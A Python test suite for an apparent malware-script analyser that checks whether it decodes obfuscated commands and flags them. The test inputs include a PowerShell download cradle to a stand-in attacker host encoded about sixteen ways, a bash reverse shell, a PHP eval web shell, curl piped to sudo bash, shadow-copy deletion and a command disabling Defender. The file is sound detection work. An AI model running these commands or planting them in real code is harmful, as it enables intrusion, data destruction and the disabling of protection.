import base64
import gzip
import os
import random
import zlib
from pathlib import Path

import pytest

from workers._encoded_script import decoded_parts
from workers.script import script

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/stage2')"
LINK = "hxxp://evil[.]example[.]com/stage2"


def b64(content: bytes | str) -> str:
    return base64.b64encode(content.encode() if isinstance(content, str) else content).decode()


def traits(findings):
    return {trait.name for trait in findings.result.traits}


def links(findings):
    return {each.value for each in findings.result.indicators if each.kind == "url"}


@pytest.mark.parametrize(
    "text",
    [
        f"powershell -enc {b64(CRADLE.encode('utf-16-le'))}",
        f"$x = FromBase64String('{b64(gzip.compress(CRADLE.encode()))}')",
        f"$x = FromBase64String('{b64(zlib.compress(CRADLE.encode())[2:-4])}')",
        f"x = atob('{b64(b64(b64(CRADLE)))}')",
        f"var h = '{CRADLE.encode().hex()}';",
        f"var c = String.fromCharCode({','.join(str(ord(char)) for char in CRADLE)});",
        f"$b = @({', '.join(hex(ord(char)) for char in CRADLE)})",
        "Execute(" + " & ".join(f"Chr({ord(char)})" for char in CRADLE) + ")",
        "& (" + "+".join(f"[char]{ord(char)}" for char in CRADLE) + ")",
        f'Execute StrReverse("{CRADLE[::-1]}")',
        f"var r = '{CRADLE.replace(chr(39), '')[::-1]}';",
        "var u = unescape('" + "".join(f"%{ord(char):02x}" for char in CRADLE) + "');",
        "var e = '" + "".join(f"\\x{ord(char):02x}" for char in CRADLE) + "';",
        "var j = 'I' + 'EX $x.Down' + 'loadString(\"http://evil.exam' + 'ple.com/stage2\")'",
        "I`E`X (New-Object Net.WebClient).Down`load`String('http://evil.example.com/stage2')",
        "('{1}{0}' -f 'loadString(\"http://evil.example.com/stage2\")','IEX $w.Down')",
    ],
)  # fmt: skip
def test_every_way_of_hiding_is_undone(analyse, text):
    """However the command was hidden, its address and what it does come out."""
    findings = analyse(script, text.encode())
    assert LINK in links(findings)
    assert "downloads" in traits(findings)
    assert findings.score >= 40
    assert "evil.example.com" in findings.evidence[0].path.read_text()


def test_the_windows_script_encoder(analyse):
    """What Microsoft's encoder made of a text is that text again, in a file of its own or in a page."""
    encoded = "#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"
    findings = analyse(script, encoded.encode())
    assert [(each.method, each.text) for each in findings.result.layers] == [
        ("script encoder", 'MsgBox "Hello"')
    ]
    page = f"<script language=JScript.Encode>{encode(CRADLE)}</script>"
    findings = analyse(script, page.encode())
    assert LINK in links(findings)
    assert {"downloads", "hidden-commands"} <= traits(findings)


def encode(text: str) -> str:
    """The text as the encoder writes it, made by trying which character is decoded to each."""
    made = []
    alphabet = ["@!", "@*", "@#", "@&", "@$", *(chr(code) for code in (9, *range(32, 128)))]
    for place, char in enumerate(text):
        before = "#@~^AAAAAA==" + "A" * (place % 64)
        made.append(next(each for each in alphabet if last(f"{before}{each}^#~@") == char))
    return f"#@~^AAAAAA=={''.join(made)}^#~@"


def last(encoded: str) -> str:
    (part,) = decoded_parts(encoded)
    return part[-1]


@pytest.mark.parametrize("encoder", [lambda text: b64(gzip.compress(text.encode())), b64])
def test_encoders_upon_each_other(analyse, encoder):
    """An encoded command within an encoded command, compressed or not, joined from pieces, comes out."""
    inner = f"powershell -w hidden -enc {b64(CRADLE.encode('utf-16-le'))}"
    blob = encoder(inner)
    joined = "' + '".join(blob[start : start + 40] for start in range(0, len(blob), 40))
    findings = analyse(script, f"$x = [Convert]::FromBase64String('{joined}')".encode())
    assert LINK in links(findings)
    assert {"encoded-command", "hidden-window"} <= traits(findings)


@pytest.mark.parametrize("key", [0x21, 0x5A, 0xFF])
def test_exclusive_or_with_one_byte(analyse, key):
    """A command that each byte was changed in by the same key comes out, whatever the key is."""
    blob = bytes(byte ^ key for byte in CRADLE.encode())
    findings = analyse(script, f"$b = FromBase64String('{b64(blob)}') | % {{ $_ -bxor {key} }}".encode())
    assert LINK in links(findings)


def test_a_program_changed_with_a_key_becomes_a_child(analyse, launchers):
    """A real program that each byte was changed in is handed on as it was."""
    program = launchers["t64.exe"]
    blob = b64(bytes(byte ^ 0x37 for byte in program))
    findings = analyse(script, f"$b = FromBase64String('{blob}') | % {{ $_ -bxor 0x37 }}".encode())
    assert [child.path.read_bytes() for child in findings.children] == [program]
    assert "hidden-program" in traits(findings)


def test_what_was_hidden_weighs_more(analyse):
    """The same command counts more from behind Base64 than in the open."""
    opened = analyse(script, CRADLE.encode())
    hidden = analyse(script, f"$a = '{b64(CRADLE)}'".encode())
    assert hidden.score == opened.score + 20
    assert "hidden-commands" in traits(hidden)


def test_a_hidden_program_becomes_a_child(analyse):
    """A program carried as Base64, plain or compressed, is handed on as it is."""
    program = b"MZ" + os.urandom(300)
    for blob in (program, zlib.compress(program)):
        findings = analyse(script, f"$p = '{b64(blob)}'".encode())
        assert [child.path.read_bytes() for child in findings.children] == [program]
        assert "hidden-program" in traits(findings)
        assert findings.score >= 50


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-8-sig", "utf-8", "latin-1"])
def test_text_encodings(analyse, encoding):
    """Scripts are read in the encodings that Windows leaves them in."""
    assert LINK in links(analyse(script, (CRADLE + " # é").encode(encoding)))


@pytest.mark.parametrize(
    ("text", "trait"),
    [
        ("curl -s https://x.example.com/i.sh | sudo bash", "runs-download-in-shell"),
        ("exec(base64.b64decode('aW1wb3J0IG9z'))", "runs-download-in-shell"),
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse-shell"),
        ("<?php eval($_POST['x']); ?>", "runs-request"),
        ("schtasks /create /sc onlogon /tn x /tr y.exe\nvssadmin delete shadows /all", "deletes-backups"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "turns-off-protection"),
    ],
)
def test_commands_for_other_systems(analyse, text, trait):
    """One strong trait is enough for a score."""
    findings = analyse(script, text.encode())
    assert trait in traits(findings)
    assert findings.score >= 40


@pytest.mark.parametrize(
    "text",
    [
        "print('hello')\n",
        "function f(x) { return eval(x); }",
        "<html><body><a href='https://www.example.com'>x</a></body></html>",
        "#!/bin/sh\nset -e\ncd /tmp\nmake install\n",
        "",
    ],
)
def test_ordinary_scripts_have_no_score(analyse, text):
    """A script that does nothing remarkable, or one weak thing, is not judged."""
    findings = analyse(script, text.encode())
    assert (findings.score, findings.detections) == (-1, [])


def test_real_scripts_of_the_standard_library(analyse):
    """Python's own sources are decoded without trouble and none looks like malware."""
    for module in (os, base64, gzip, random):
        assert analyse(script, Path(module.__file__)).score < 60


@pytest.mark.parametrize(
    "piece",
    ["A", "1,", "%41", "\\x41", "Chr(1)&", "'a'+", '"a"&', "{0}", "[char]65+", "`a", 'StrReverse("a'],
)  # fmt: skip
def test_hostile_text_ends(analyse, piece):
    """Half a megabyte of anything is decoded in time (the test's time limit would tell)."""
    analyse(script, (piece * (500_000 // len(piece))).encode())


def test_random_bytes(analyse):
    """Bytes that are no text at all are no failure."""
    noise = random.Random(8)
    for _ in range(20):
        analyse(script, noise.randbytes(5000))
